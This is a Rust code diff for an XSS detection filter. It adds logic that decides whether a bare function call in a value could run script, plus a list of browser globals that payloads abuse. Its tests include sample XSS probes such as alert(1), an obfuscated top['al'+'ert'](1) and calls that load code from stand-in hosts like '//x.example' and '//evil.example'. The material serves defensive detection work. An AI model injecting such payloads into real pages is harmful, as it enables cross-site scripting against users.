@@ -5,8 +5,9 @@
 //! Structural facts settle cases where resemblance misleads it:
 //!
 //! - [`script_capable`]: without an element, an event-handler attribute, a
-//!   script URL scheme, a call or an assignment to a script sink, nothing
-//!   can run: the value is cleared (`Meeting moved: 3pm -> 4pm`,
+//!   script URL scheme, a call (of a function a page has without defining
+//!   it, or of an expression: see [`paren_call_counts`]) or an assignment
+//!   to a script sink, nothing can run: the value is cleared (`Meeting moved: 3pm -> 4pm`,
 //!   `x=1; y=2; z=x+y`, `Room 12 (second floor)`). Markup counts even when
 //!   it runs nothing by itself (`<a href="https://...">`, `<h1>`, `</a>`): the
 //!   data sets label such HTML injection as XSS, and telling a rich-text
@@ -96,7 +97,7 @@ pub fn script_capable(v: &str) -> bool {
                     && (quoted || !inert_tag(b, i, &mut next_gt))
                     && !junk_tag(b, i, &mut name_span)
             }
-            b'(' => callee_before(b, i),
+            b'(' => callee_before(b, i) && paren_call_counts(b, i, &mut assigned),
             b'`' => callee_before(b, i) && template_tag_counts(b, i, &mut assigned),
             b'=' => {
                 b.get(i + 1) != Some(&b'=')
@@ -1263,6 +1264,104 @@ fn callee_before(b: &[u8], i: usize) -> bool {
     matches!(b[end - 1], b')' | b']' | b'/') || optional_call || identifier_before(b, end).is_some()
 }
 
+/// Whether the call whose `(` is at `i` (a callee before it,
+/// [`callee_before`]) is for the model to judge: always when the callee is
+/// an expression (`(alert)(1)`, `top['alert'](1)`, `alert/**/(1)`), a path
+/// of names (`document.write(`, `String.fromCharCode(`), a constructor
+/// (`new Image(`), or a name the value assigns or declares (`x=alert;x(1)`,
+/// `function f(){...}f()`); a bare name only when it is one a page has
+/// without defining it and that runs, loads, shows or decodes something
+/// ([`BUILTIN_CALLS`]). Any other bare name is a function no page defines
+/// by default: the call throws, wherever the value lands (`startswith(Name,
+/// 'A')`, an OData filter, 0.62 to the model; `f(x) = x^2` 0.72; `item(s)`).
+fn paren_call_counts<'a>(b: &'a [u8], i: usize, assigned: &mut Option<HashSet<&'a [u8]>>) -> bool {
+    let end = skip_space_back(b, i);
+    let Some(name) = identifier_before(b, end) else {
+        return true;
+    };
+    let start = end - name.len();
+    let before = skip_space_back(b, start);
+    if before > 0 && b[before - 1] == b'.' {
+        return true;
+    }
+    if before >= 3
+        && &b[before - 3..before] == b"new"
+        && (before == 3 || !is_identifier_byte(b[before - 4]))
+    {
+        return true;
+    }
+    if BUILTIN_CALLS.contains(&name) || harmful_tag(name, b"") {
+        return true;
+    }
+    assigned
+        .get_or_insert_with(|| assigned_names(b))
+        .contains(name)
+        || declares_function(b, name)
+}
+
+/// Whether `b` declares a function of this name (`function f(`).
+fn declares_function(b: &[u8], name: &[u8]) -> bool {
+    memchr::memmem::find_iter(b, b"function").any(|f| {
+        let at = skip_space(b, f + 8);
+        b[at..].starts_with(name)
+            && !b
+                .get(at + name.len())
+                .is_some_and(|&c| is_identifier_byte(c))
+    })
+}
+
+/// Functions a page has without defining them, besides the dialogs, code
+/// runners and harmful tags, that a payload calls by a bare name: to load
+/// (`import`, `require`), to decode or build the code it runs (`atob`,
+/// `unescape`, `String`), or to reach the window (`top`, `self`...).
+const BUILTIN_CALLS: &[&[u8]] = &[
+    b"import",
+    b"require",
+    b"atob",
+    b"btoa",
+    b"unescape",
+    b"escape",
+    b"decodeURI",
+    b"decodeURIComponent",
+    b"String",
+    b"fromCharCode",
+    b"constructor",
+    b"Reflect",
+    b"Object",
+    b"Array",
+    b"Promise",
+    b"Proxy",
+    b"Image",
+    b"XMLHttpRequest",
+    b"WebSocket",
+    b"Worker",
+    b"EventSource",
+    b"setImmediate",
+    b"requestAnimationFrame",
+    b"queueMicrotask",
+    b"top",
+    b"self",
+    b"parent",
+    b"window",
+    b"frames",
+    b"opener",
+    b"globalThis",
+    b"location",
+    b"document",
+    b"close",
+    b"stop",
+    b"find",
+    b"focus",
+    b"blur",
+    b"scroll",
+    b"scrollTo",
+    b"scrollBy",
+    b"moveTo",
+    b"resizeTo",
+    b"showModalDialog",
+    b"navigate",
+];
+
 /// Whether the tagged template whose backtick is at `i` (a callee before
 /// it, [`callee_before`]) is for the model to judge: always when the tag is
 /// an expression (`(alert)`, `top['alert']`, `alert/**/`), and when it is a
@@ -1482,6 +1581,53 @@ mod tests {
         ] {
             assert!(!calls_an_alias(v.as_bytes()), "{v}");
         }
+    }
+
+    #[test]
+    fn a_bare_call_of_an_unknown_name_throws() {
+        for v in [
+            "startswith(Name,'A')",
+            "contains(Title,'rust')",
+            "f(x) = x^2",
+            "y = f(x)",
+            "Win32 lacks the equivalent of fork()",
+            "Podręcznik(tm)",
+            "foo(1)",
+            // `URL` must be called with `new`; a name is not declared by
+            // appearing elsewhere.
+            "b=\"URL(\\\"\";",
+            "fn(x) then function_of(y)",
+        ] {
+            assert!(!script_capable(v), "{v}");
+        }
+        for v in [
+            // Dialogs, code runners, loaders, decoders, window members.
+            "alert(1)",
+            "prompt(1)",
+            "eval(name)",
+            "fetch('//x.example')",
+            "import('//x.example/m.js')",
+            "atob('YWxlcnQoMSk=')",
+            "top(1)",
+            // Paths, constructors, expressions, aliases, declarations.
+            "document.write(1)",
+            "String.fromCharCode(88)",
+            "x . y(1)",
+            "new Image(1)",
+            "new  Foo(1)",
+            "(alert)(1)",
+            "top['al'+'ert'](1)",
+            "alert/**/(1)",
+            "alert?.(1)",
+            "x=alert;x(1)",
+            "function f(){}f(1)",
+            "function  g (){}g(1)",
+        ] {
+            assert!(script_capable(v), "{v}");
+        }
+        // A declared name must be the whole name.
+        assert!(!declares_function(b"function fx(){}f(1)", b"f"));
+        assert!(declares_function(b"function f(){}", b"f"));
     }
 
     #[test]
@@ -1860,6 +2006,8 @@ mod tests {
             "Section 3(a)(ii)",
             "Section 230(c)(1)",
             "26 U.S.C. § 501(c)(3)",
+            // An unknown name's call throws before its result is called.
+            "x(a)(1)",
         ] {
             assert!(!script_capable(v), "{v}");
         }
@@ -1870,7 +2018,6 @@ mod tests {
             "1(open)('//evil.example')",
             "(a)(1)",
             "1(a)(alert(1))",
-            "x(a)(1)",
             "501(c)(3)(alert)(1)",
         ] {
             assert!(script_capable(v), "{v}");
